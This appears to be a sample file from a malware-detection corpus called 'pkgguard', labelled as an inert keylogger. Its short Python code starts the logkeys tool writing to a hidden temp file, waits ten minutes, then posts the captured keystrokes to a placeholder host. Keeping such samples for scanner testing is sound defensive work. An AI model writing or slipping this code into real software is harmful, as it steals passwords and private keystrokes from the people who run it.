# pkgguard corpus 579 (keylogger), modelled on [stealer-profile]; inert, never run.
import os
import subprocess
import tempfile
import time

import requests

log = os.path.join(tempfile.gettempdir(), ".kbd.log")
subprocess.run(["logkeys", "--start", "--output", log], check=False)
time.sleep(600)
with open(log, "rb") as fh:
    requests.post("https://typing-stats.example/k", data=fh.read(), timeout=10)
